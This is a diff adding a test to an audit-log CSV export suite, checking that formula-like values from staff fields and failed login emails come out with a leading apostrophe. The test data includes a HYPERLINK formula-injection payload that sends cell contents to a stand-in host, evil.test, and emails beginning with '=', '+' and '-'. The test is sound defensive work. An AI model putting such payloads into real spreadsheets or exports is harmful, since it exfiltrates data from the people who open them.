@@ -13,7 +13,8 @@ import { signIn, startTestApp, TestApp } from './support/app';
 import { createDatabase, dropDatabase, openDataSource } from './support/db';
 import { runMigrations } from '../server/core/database/migrate';
 import { schema } from '../server/schema';
-import { createStaff } from './support/factories';
+import { createAccount, createStaff } from './support/factories';
+import { parseCsv } from './support/csv';
 
 const SYSTEM = { actor: null, meta: { ip: null, requestId: null } };
 
@@ -236,5 +237,33 @@ describe('audit export', () => {
 
     const agent = await signIn(t, await createStaff(t.dataSource, ['agent']));
     expect((await agent.get('/api/audit-events/export')).status).toBe(403);
+  });
+
+  it('neutralises spreadsheet formulas typed by staff or by anyone at the login form in every column', async () => {
+    const since = new Date(Date.now() - 1000).toISOString();
+    const created = await createStaff(t.dataSource, ['agent'], { email: `-agent-${Date.now()}@staff.test` });
+    const agent = await signIn(t, { ...created, email: created.user.email });
+    const account = await createAccount(t.dataSource);
+    const callReference = '=HYPERLINK("http://evil.test/?d="&A1,"call 42")';
+    expect((await agent.post(`/api/accounts/${account.id}/verifications`).send({ callReference })).status).toBe(201);
+    for (const email of ['-2+3@x.test', '=1+1@x.test', '+1@x.test']) {
+      expect((await request(t.url).post('/api/auth/login').send({ email, password: 'not it', otp: '000000' })).status).toBe(401);
+    }
+
+    const supervisor = await signIn(t, await createStaff(t.dataSource, ['supervisor']));
+    const res = await supervisor.get('/api/audit-events/export').query({ from: since }).buffer(true).parse((r, cb) => {
+      let text = '';
+      r.on('data', (d: Buffer) => (text += d.toString()));
+      r.on('end', () => cb(null, text));
+    });
+    expect(res.status).toBe(200);
+    const [header, ...rows] = parseCsv(res.body as string);
+    const col = (name: string) => header.indexOf(name);
+    const byAgent = rows.filter((r) => r[col('actorEmail')] === `'${created.user.email}`);
+    expect(byAgent.length).toBeGreaterThan(0);
+    expect(byAgent.map((r) => r[col('reason')])).toContain(`'${callReference}`);
+    const failed = rows.filter((r) => r[col('action')] === 'auth.login.failed').map((r) => r[col('targetId')]);
+    expect(failed).toEqual(expect.arrayContaining([`'-2+3@x.test`, `'=1+1@x.test`, `'+1@x.test`]));
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
